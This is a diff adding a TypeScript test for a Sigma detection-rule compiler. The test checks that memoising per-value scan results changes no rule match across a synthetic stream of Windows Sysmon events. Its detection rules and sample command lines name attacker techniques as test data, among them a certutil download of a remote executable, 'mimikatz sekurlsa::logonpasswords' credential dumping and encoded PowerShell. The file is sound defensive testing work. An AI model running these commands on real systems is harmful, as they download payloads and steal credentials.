@@ -1,0 +1,87 @@
+/**
+ * Per-value memos (scan results of the literal index, answers of single-field
+ * items) change no match: a rule set compiled with them agrees with one
+ * compiled without, event by event, when values repeat (answers replayed),
+ * when the budget is spent and every memo is emptied mid-stream, and when one
+ * value matters in several rules and in events of different kinds.
+ */
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { compileRules, loadRuleText, type CompiledRuleSet } from '../../../src/sigma/index.js';
+import { loadPipeline } from '../../../src/sigma/pipeline/index.js';
+import { MEMO_MAX_CHARS } from '../../../src/sigma/compile/literal-memo.js';
+import { rng } from '../../logs/mutate.js';
+
+let n = 0;
+const rule = (title: string, category: string, detection: string): string =>
+  `title: ${title}\nid: 00000000-0000-4000-8000-${String(++n).padStart(12, '0')}\nlogsource: {product: windows, category: ${category}}\ndetection:\n${detection}\n---\n`;
+
+const RULES =
+  rule('encoded powershell', 'process_creation', "  sel:\n    Image|endswith: '\\powershell.exe'\n    CommandLine|contains: [' -enc ', ' -e ', 'frombase64string']\n  condition: sel") +
+  rule('powershell not from explorer', 'process_creation', "  sel:\n    Image|endswith: '\\powershell.exe'\n  parent:\n    ParentImage|endswith: '\\explorer.exe'\n  condition: sel and not parent") +
+  rule('rundll32 no args', 'process_creation', "  sel:\n    Image|endswith: '\\rundll32.exe'\n    CommandLine|re: '(?i)rundll32(\\.exe)?\"?\\s*$'\n  condition: sel") +
+  rule('cmd redirect', 'process_creation', "  sel:\n    CommandLine|contains|all: ['cmd', '> ']\n  condition: sel") +
+  rule('certutil download', 'process_creation', "  sel:\n    CommandLine|contains|windash: ['-urlcache', '-verifyctl']\n    Image|endswith: '\\certutil.exe'\n  condition: sel") +
+  rule('same image parent', 'process_creation', "  sel:\n    Image|fieldref: ParentImage\n  condition: sel") +
+  rule('temp dll load', 'image_load', "  sel:\n    ImageLoaded|contains: '\\Temp\\'\n    ImageLoaded|endswith: '.dll'\n  condition: sel") +
+  rule('powershell loads', 'image_load', "  sel:\n    Image|endswith: '\\powershell.exe'\n  condition: sel") +
+  rule('mimikatz keyword', 'process_creation', "  keywords:\n    - 'sekurlsa'\n  condition: keywords");
+
+function compile(opts: { scanMemo?: boolean; scanMemoBudget?: number }): CompiledRuleSet {
+  const c = loadRuleText(RULES, 'literal-memo.yml');
+  assert.deepEqual(c.issues, []);
+  const set = compileRules(c, { pipeline: loadPipeline(['windows']), ...opts });
+  assert.deepEqual(set.issues, []);
+  return set;
+}
+
+const IMAGES = ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\rundll32.exe', 'C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\certutil.exe', 'C:\\Users\\a\\AppData\\Local\\Temp\\x.exe'];
+const LINES = ['powershell -enc SQBFAFgA', 'powershell -nop -w hidden', 'rundll32.exe', 'rundll32.exe shell32.dll,Control_RunDLL', 'cmd /c whoami > c:\\out.txt', 'certutil /urlcache -f http://x/y.exe', 'certutil -verifyctl -f', 'mimikatz sekurlsa::logonpasswords', 'notepad.exe', ''];
+const LOADED = ['C:\\Users\\a\\AppData\\Local\\Temp\\evil.dll', 'C:\\Windows\\System32\\ntdll.dll', 'C:\\Users\\a\\AppData\\Local\\Temp\\readme.txt'];
+
+/** A stream drawn from few values, so most values repeat; some events lack fields or carry other types. */
+function events(count: number, seed: number): Record<string, unknown>[] {
+  const r = rng(seed);
+  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
+  const out: Record<string, unknown>[] = [];
+  for (let i = 0; i < count; i++) {
+    if (r() < 0.25) {
+      out.push({ Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 7, Image: pick(IMAGES), ImageLoaded: pick(LOADED) });
+      continue;
+    }
+    const e: Record<string, unknown> = { Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, Image: pick(IMAGES), CommandLine: pick(LINES) };
+    if (r() < 0.8) e.ParentImage = pick(IMAGES);
+    if (r() < 0.05) e.CommandLine = 12345; // not a string: scanned, not remembered
+    if (r() < 0.05) e.CommandLine = `${pick(LINES)} ${'x'.repeat(MEMO_MAX_CHARS)}`; // too long to remember
+    out.push(e);
+  }
+  return out;
+}
+
+const titles = (set: CompiledRuleSet, e: Record<string, unknown>): string[] => set.matchEvent(e).map((m) => m.rule.ref.title).sort();
+
+test('memos change no match: repeated values, values too long or not strings, a budget spent mid-stream', () => {
+  const plain = compile({ scanMemo: false });
+  const memo = compile({});
+  const tiny = compile({ scanMemoBudget: 600 });
+  assert.equal(plain.memoStats(), undefined);
+  const stream = events(3000, 7);
+  let matched = 0;
+  for (const e of stream) {
+    const want = titles(plain, e);
+    const brute = plain.rules.filter((r) => r.match(e) !== undefined).map((r) => r.ref.title).sort();
+    assert.deepEqual(want, brute, 'the memo-free set agrees with brute force');
+    assert.deepEqual(titles(memo, e), want, `memos: ${JSON.stringify(e)}`);
+    assert.deepEqual(titles(tiny, e), want, `tiny budget: ${JSON.stringify(e)}`);
+    matched += want.length;
+  }
+  assert.ok(matched > 1000, `only ${matched} matches: the comparison would prove little`);
+  for (const t of ['encoded powershell', 'powershell not from explorer', 'rundll32 no args', 'cmd redirect', 'certutil download', 'same image parent', 'temp dll load', 'powershell loads', 'mimikatz keyword']) {
+    assert.ok(stream.some((e) => titles(plain, e).includes(t)), `${t} fires somewhere in the stream`);
+  }
+  const s = memo.memoStats()!;
+  assert.ok(s.hits > 10 * s.scans, `values repeat, so answers are replayed: ${JSON.stringify(s)}`);
+  assert.equal(s.resets, 0);
+  const t = tiny.memoStats()!;
+  assert.ok(t.resets > 10, `the tiny budget is spent again and again: ${JSON.stringify(t)}`);
+});
